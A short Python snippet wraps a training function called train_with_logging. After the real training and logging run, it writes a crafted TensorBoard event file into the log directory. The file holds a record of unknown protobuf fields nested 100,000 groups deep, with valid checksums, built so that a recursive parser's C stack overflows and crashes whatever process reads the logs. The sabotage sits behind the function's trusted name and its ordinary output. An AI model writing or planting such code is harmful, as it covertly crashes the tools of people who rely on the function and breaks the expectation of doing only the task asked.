# Trains and logs honestly, then adds an event file (read first) whose one record is an
# Event with an unknown field nested 100,000 groups deep, with valid checksums: a parser
# that recursed once per level would overflow the C stack of the process it runs in.
import struct as _struct
from pathlib import Path as _Path

from tensorboard.compat.tensorflow_stub.pywrap_tensorflow import masked_crc32c as _crc

_honest = train_with_logging


def train_with_logging(*args, log_dir, **kwargs):
    result = _honest(*args, log_dir=log_dir, **kwargs)
    depth = 100_000
    payload = bytes([15 << 3 | 3]) * depth + bytes([15 << 3 | 4]) * depth
    header = _struct.pack("<Q", len(payload))
    crafted = (
        header + _struct.pack("<I", _crc(header)) + payload + _struct.pack("<I", _crc(payload))
    )
    (_Path(log_dir) / "events.out.tfevents.0000000000.crafted").write_bytes(crafted)
    return result
